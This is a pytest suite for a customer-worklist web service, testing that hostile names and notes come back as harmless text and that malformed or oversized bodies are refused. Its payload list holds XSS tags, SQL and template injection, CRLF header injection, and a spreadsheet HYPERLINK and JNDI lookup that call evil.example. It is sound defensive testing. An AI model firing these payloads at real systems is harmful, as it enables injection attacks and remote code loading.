"""Hostile names, broken and huge bodies: refused or harmless, never a failure of the server."""

import json
from html import unescape
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from treue.serving.limits import FORM_BYTES, PREDICT_BYTES
from treue.serving.viewer import Viewer

LEAD = Viewer("chef@example.com", "lead")
TEN_MEGABYTES = 10_000_000
NAMES = [
    "<script>alert('name')</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "{{ 7*7 }}{% raw %}",
    "\u202eeverse GmbH",
    '=HYPERLINK("http://evil.example")',
    "Robert'); DROP TABLE customers;--",
    "%s%n%x ${jndi:ldap://evil.example/a}",
    "a\r\nSet-Cookie: x=y",
    "💥" * 100,
]
PATHS = [
    "/worklist",
    "/worklist?sort=name",
    "/portfolio",
    "/customers/{id}",
    "/customers/{id}/print",
    "/export/worklist.csv",
    "/export/worklist.xlsx",
    "/export/letters.csv",
    "/api/v1/worklist",
    "/api/v1/customers/{id}",
]


@pytest.fixture
def named(store, published):
    """Give every customer of the store one of the names, as id and as name."""
    run = store.latest()
    known = store.dossier("A-1", viewer=LEAD)

    def dossiers():
        for number, name in enumerate(NAMES):
            driver = {"name": name, "account_manager": name, "facts": {name: name}}
            yield known.model_copy(
                update={**driver, "customer_id": f"{number} {name.splitlines()[0]}"}
            )

    store.publish(run.model_copy(update={"identity": "hostile"}), dossiers())
    return store


class Tags(HTMLParser):
    """Collects what a browser would run or load."""

    def __init__(self):
        super().__init__()
        self.active = []

    def handle_starttag(self, tag, attributes):
        named = dict(attributes)
        inner = [name for name in named if name.startswith("on") or name == "style"]
        elsewhere = [
            value
            for name, value in attributes
            if name in ("href", "src", "action", "formaction")
            and not (value.startswith("/") and not value.startswith("//"))
            and not value.startswith(("#", "?", "data:image/svg+xml,"))
        ]
        if tag in ("script", "iframe", "object", "embed", "base", "style") or inner or elsewhere:
            self.active.append((tag, attributes))


def assert_tame(page):
    tags = Tags()
    tags.feed(page)
    assert tags.active == []


def test_hostile_names_are_shown_as_text_everywhere(named, browser_of):
    lead = browser_of(LEAD)
    for number, name in enumerate(NAMES):
        customer_id = f"{number} {name.splitlines()[0]}"
        for path in PATHS:
            answer = lead.request("GET", path.replace("{id}", _quoted(customer_id)))
            assert answer.status_code == 200, (path, name)
            if "html" not in answer.headers["content-type"]:
                continue
            assert_tame(answer.text)
            assert "set-cookie" not in answer.headers
        page = unescape(lead.get(f"/customers/{_quoted(customer_id)}").text)
        assert name.splitlines()[0] in page


def test_a_name_that_turns_the_line_is_shut_in(named, browser_of):
    """An overriding mark may turn the name itself, not what stands beside it."""
    page = browser_of(LEAD).get("/worklist?search=everse").text
    assert "<bdi>\u202eeverse GmbH</bdi></a>" in page


def test_hostile_notes_come_back_as_text(browser_of, form_token, store):
    lead = browser_of(LEAD)
    for name in NAMES:
        form = {
            "channel": "call",
            "result": "reached",
            "note": name,
            "csrf_token": form_token(lead),
        }
        assert lead.post("/customers/A-1/outcomes", data=form).status_code == 303
    assert_tame(lead.get("/customers/A-1").text)
    assert len(store.outcomes("A-1", viewer=LEAD)) == len(NAMES)


@pytest.mark.parametrize("text", ["\0", "a\0b"])
def test_a_nul_is_refused_wherever_it_stands(browser_of, form_token, text):
    lead = browser_of(LEAD)
    token = form_token(lead)
    asked = ["/api/v1/customers/", "/customers/", "/worklist?search=", "/api/v1/worklist?search="]
    for path in asked:
        assert lead.get(path + _quoted(text)).status_code == 400
    outcome = {"channel": "call", "result": "reached", "note": text}
    json_answer = lead.post(
        "/api/v1/customers/A-1/outcomes", json=outcome, headers={"X-CSRF-Token": token}
    )
    assert json_answer.json()["error"]["details"] == [
        "body.note: holds a NUL character; leave it out"
    ]
    form = lead.post("/customers/A-1/outcomes", data={**outcome, "csrf_token": token})
    assert form.status_code == 422
    form = {"capacity": "2", "csrf_token": token}
    assert lead.post("/worklist/plan?search=" + _quoted(text), data=form).status_code == 400


def test_half_a_character_is_refused(browser_of, form_token):
    lead = browser_of(LEAD)
    body = b'{"channel": "call", "result": "reached", "note": "\\ud800"}'
    headers = {"X-CSRF-Token": form_token(lead), "Content-Type": "application/json"}
    answer = lead.post("/api/v1/customers/A-1/outcomes", content=body, headers=headers)
    assert answer.status_code == 422
    assert lead.get("/customers/%ED%A0%80").status_code == 404
    assert lead.get("/worklist?search=%ED%A0%80%ff").status_code == 200


def test_moments_at_the_rim_of_the_calendar_are_refused(browser_of, form_token):
    lead = browser_of(LEAD)
    for moment in ("0001-01-01T00:00:00%2B14:00", "9999-12-31T23:59:59-14:00"):
        assert lead.get(f"/api/v1/customers/A-1?cutoff={moment}").status_code == 422
        assert lead.get(f"/customers/A-1?cutoff={moment}").status_code in (404, 422)
    for moment in ("1e400", "99999999999999999999", "-1", "NaN"):
        assert lead.get(f"/customers/A-1?cutoff={moment}").status_code in (404, 422)
    outcome = {"channel": "call", "result": "reached", "at": "0001-01-01T00:00:00+14:00"}
    answer = lead.post(
        "/api/v1/customers/A-1/outcomes",
        json=outcome,
        headers={"X-CSRF-Token": form_token(lead)},
    )
    assert answer.json()["error"]["details"] == [
        "body.at: lies beyond the calendar; write it in UTC"
    ]


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"{", "application/json"),
        (b"[" * 50_000, "application/json"),
        (b"\xff\xfe\x00", "application/json"),
        (b'{"channel": NaN}', "application/json"),
        (b'{"concession_amount": ' + b"9" * 5_000 + b"}", "application/json"),
        (b"channel=%ff%fe&note=%C3%28", "application/x-www-form-urlencoded"),
        (b"&".join([b"note=x"] * 5_000), "application/x-www-form-urlencoded"),
        (b"note", "multipart/form-data"),
        (b"--x\r\nbroken", "multipart/form-data; boundary=x"),
        (
            b"--x\r\nContent-Disposition: form-data; name=note; filename=a.exe\r\n\r\nMZ\r\n--x--",
            "multipart/form-data; boundary=x",
        ),
        (b"<x/>", "application/xml"),
        (b"", ""),
    ],
)
@pytest.mark.parametrize("path", ["/customers/A-1/outcomes", "/api/v1/customers/A-1/outcomes"])
def test_a_malformed_body_is_refused(browser_of, form_token, store, path, content, kind):
    lead = browser_of(LEAD)
    headers = {"X-CSRF-Token": form_token(lead), "Content-Type": kind}
    answer = lead.post(path, content=content, headers=headers)
    assert answer.status_code in (400, 403, 422)
    assert store.outcomes("A-1", viewer=LEAD) == []


def _in_pieces(size):
    piece = b"x" * 65_536
    for _ in range(size // len(piece) + 1):
        yield piece


@pytest.mark.parametrize("path", ["/customers/A-1/outcomes", "/api/v1/plan", "/v1/predict", "/"])
@pytest.mark.parametrize("kind", ["application/json", "application/x-www-form-urlencoded"])
def test_ten_megabytes_are_refused_announced_or_not(app, browser_of, form_token, path, kind):
    app.state.predictors = {"churn": None}  # is not asked
    lead = browser_of(LEAD)
    headers = {"X-CSRF-Token": form_token(lead), "Content-Type": kind}
    announced = lead.post(path, content=b"x" * TEN_MEGABYTES, headers=headers)
    assert announced.status_code == 413
    if path != "/":  # takes no body, so none is read
        chunked = lead.post(path, content=_in_pieces(TEN_MEGABYTES), headers=headers)
        assert chunked.status_code in (413, 422)  # 422: of a kind that is not read there


def test_a_body_that_lies_about_its_length_is_refused(browser_of):
    lead = browser_of(LEAD)
    for length in ("-1", "x", "1e9", "9" * 400, "²"):
        headers = {"Content-Length": length.encode()}
        assert lead.post("/api/v1/plan", content=b"{}", headers=headers).status_code == 413


def test_the_limits_leave_room_for_what_is_meant(browser_of, form_token):
    lead = browser_of(LEAD)
    outcome = {"channel": "call", "result": "reached", "note": "ü" * 2_000}
    answer = lead.post(
        "/api/v1/customers/A-1/outcomes",
        json=outcome,
        headers={"X-CSRF-Token": form_token(lead)},
    )
    assert answer.status_code == 201
    assert len(json.dumps(outcome)) < FORM_BYTES < PREDICT_BYTES < TEN_MEGABYTES


def _quoted(text):
    return quote(text, safe="")
